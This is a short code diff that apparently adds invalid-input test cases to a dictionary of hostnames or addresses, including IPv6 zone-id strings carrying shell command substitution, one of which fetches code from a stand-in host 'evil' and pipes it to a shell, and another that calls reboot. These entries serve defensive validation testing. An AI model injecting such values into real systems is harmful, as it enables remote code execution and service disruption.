@@ -21,6 +21,9 @@ FORMS = {
     "a b": None,
     "*.example": None,
     "$(reboot)": None,
+    "[fe80::1%$(curl${IFS}evil|sh)]": None,
+    "fe80::1%$(reboot)": None,
+    "[fe80::1%]": None,
     "[": None,
     "": None,
 }
